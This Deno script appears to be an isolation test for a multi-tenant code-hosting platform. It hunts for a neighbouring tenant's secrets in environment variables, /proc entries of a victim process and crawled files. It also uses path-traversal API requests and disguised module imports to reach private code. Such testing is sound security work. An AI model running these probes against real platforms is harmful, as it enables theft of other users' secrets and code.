// Looks for what only the neighbour may know wherever it can look, and gives where it found that. The texts to look for
// are given to it backwards, so that what it was given itself is no find.
import fs from "node:fs";
import { createRequire } from "node:module";
import os from "node:os";

addEventListener("unhandledrejection", (event) => event.preventDefault());

const aims = JSON.parse(Deno.env.get("AIMS")!);
const needles: string[] = aims.needles.map((text: string) => [...text].reverse().join(""));
const instance = Deno.env.get("VALTOWN_API_URL")!;
const token = Deno.env.get("VAL_TOWN_API_KEY")!;
const found = new Set<string>();
let looked = 0;
const look = (where: string, seen: unknown) => {
  looked++;
  const text = typeof seen === "string"
    ? seen
    : Deno.inspect(seen, { depth: 10, strAbbreviateSize: 1e6, iterableLimit: 1e6 });
  if (needles.some((needle) => text.includes(needle))) found.add(where);
};
const tried = async (where: string, attempt: () => unknown) => {
  const nothing = new Promise((_, reject) => setTimeout(reject, 3000, new Error("nothing")));
  try {
    const seen = await Promise.race([attempt(), nothing]);
    look(where, seen);
    return true;
  } catch (error) {
    // What refuses may tell as well.
    look(`why not ${where}`, error);
    return false;
  }
};

// What this process knows of itself and the machine.
await tried("the environment", () => [Deno.env.toObject(), process.env]);
await tried(
  "the arguments",
  () => [Deno.args, process.argv, process.execArgv, Deno.execPath(), Deno.mainModule],
);
await tried("the report", () => JSON.stringify((process as any).report.getReport()));
await tried("the machine", () => [os.hostname(), os.userInfo(), os.homedir(), os.networkInterfaces()]);
for (const name of Object.getOwnPropertyNames(globalThis)) await tried(name, () => (globalThis as any)[name]);

// Every file that it can open, from every place that it has heard of.
Deno.writeTextFileSync("own", needles[0]);
const { pid, folder } = aims.victim;
const places = [
  "/",
  "..",
  "../..",
  Deno.cwd(),
  "/tmp",
  "/home",
  "/root",
  "/etc",
  "/proc",
  "/dev/shm",
  folder,
  aims.data,
];
places.push(
  `${aims.data}/cache`,
  `${aims.data}/work`,
  `${aims.data}/work/bootstrap`,
  `${aims.data}/hamlet.db`,
);
places.push(new URL("..", Deno.mainModule).pathname, new URL(".", Deno.mainModule).pathname);
for (let number = 0; number < 4; number++) places.push(`${folder}/hamlet-module-${number}.mjs`);
for (const who of ["self", "thread-self", "1", pid, aims.server, Deno.ppid]) {
  places.push(`/proc/${who}`);
  for (const what of ["environ", "cmdline", "maps", "mem", "task", "fd", "root", "cwd"]) {
    places.push(`/proc/${who}/${what}`);
  }
}
const seen = new Set<string>();
for (let path; (path = places.shift()) !== undefined && seen.size < 5000;) {
  if (seen.has(path)) continue;
  seen.add(path);
  await tried(path, () => Deno.readTextFileSync(path));
  await tried(path, () => fs.readFileSync(path, "latin1"));
  for (
    const list of [() => [...Deno.readDirSync(path)].map((entry) => entry.name), () => fs.readdirSync(path)]
  ) {
    try {
      places.push(...list().map((name) => `${path === "/" ? "" : path}/${name}`));
    } catch {
      // No folder, or none for it.
    }
  }
}

// The neighbour's things by the interface, as this account and as nobody.
const { hidden, run } = aims;
const paths = ["hidden", "page", "sum", "clock", "clerk"].flatMap((name) => [
  `/v1/alias/ada/${name}`,
  `/v/ada/${name}?v=0`,
  `/v/@ada/${name}.js?v=0`,
  `/v1/run/ada.${name}?args=[1,1]`,
]);
paths.push(
  "/v1/vals?limit=100",
  "/v1/vals?query=hidden",
  "/v1/alias/ada",
  "/v1/me",
  "/v1/me/secrets",
  "/v1/me/runs",
);
paths.push(
  `/v1/vals/${hidden}`,
  `/v1/vals/${hidden}/versions`,
  `/v1/vals/${hidden}/versions/0`,
  `/v1/vals/${hidden}/runs`,
);
paths.push(
  `/v1/runs/${run}`,
  `/v1/runs/${run}/events`,
  "/v1/blob",
  "/v1/blob/diary",
  "/v1/blob/..%2f..%2fhamlet.db",
);
paths.push(
  "/v1/blob/%2e%2e/%2e%2e/secret.key",
  "/v1/me/outbox",
  "/v1/me/tokens",
  "/v1/instance",
  "/v1/openapi.json",
);
let answered = 0;
for (const path of paths) {
  for (const headers of [{ authorization: `Bearer ${token}` }, {}] as Record<string, string>[]) {
    await tried(path, async () => {
      const answer = await fetch(instance + path, { headers });
      answered += Number(answer.ok);
      return [...answer.headers, await answer.text()];
    });
  }
}

// The neighbour's code as a module, by every name that it might have. The one that anyone may have shows that it works.
const { port } = new URL(instance);
const hosts = [
  "https://esm.town",
  "https://ESM.town:443",
  "https://mallory:x@esm.town",
  instance,
  `http://localhost:${port}`,
];
const names = hosts.flatMap((host) =>
  [
    "ada/hidden",
    "@ada/hidden",
    "ADA/Hidden",
    "ada/%68idden",
    "ada/hidden.ts",
    "ada/hidden.js",
    "ada/opens",
    "x/../ada/hidden",
  ]
    .flatMap((name) => [`${host}/v/${name}`, `${host}/v/${name}?v=0`, `${host}//v/${name}#x`])
);
names.push("./hidden", "../ada/hidden", "/v/ada/hidden", "ada/hidden", `${folder}/hamlet-module-0.mjs`);
for (let number = 0; number < 4; number++) names.push(`file://${folder}/hamlet-module-${number}.mjs`);
names.push('data:text/javascript,export * from "https://esm.town/v/ada/hidden"');
names.push('data:text/javascript,export * from "https://esm.town/v/ada/opens"');
const require = createRequire(`file://${Deno.cwd()}/`);
const all = async (module: any) => [module, String(module?.default), await module?.default?.()];
for (const name of names) {
  for (const type of ["", "text", "bytes", "json"]) {
    const options = type ? { with: { type } } : undefined;
    const given = JSON.stringify(name) + (type && `, ${JSON.stringify(options)}`);
    await tried(`import ${name} ${type}`, async () => all(await import(name, options)));
    await tried(`eval import ${name} ${type}`, async () => all(await eval(`import(${given})`)));
  }
}
await tried("require", () => require(`${folder}/hamlet-module-0.mjs`));
await tried("a thread", () =>
  new Promise((resolve, reject) => {
    const code = `import("https://esm.town/v/ada/hidden").then((all) => postMessage(JSON.stringify(all)))`;
    const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new Error(event.message));
    };
  }));
const shownAt = "https://esm.town/v/ada/shown";
const shown = await tried(
  "the shown one",
  async () => all(await import(shownAt)),
);

export default { found: [...found], looked, answered, shown, own: `${Deno.cwd()}/own` };
setTimeout(() => Deno.exit(), 100);
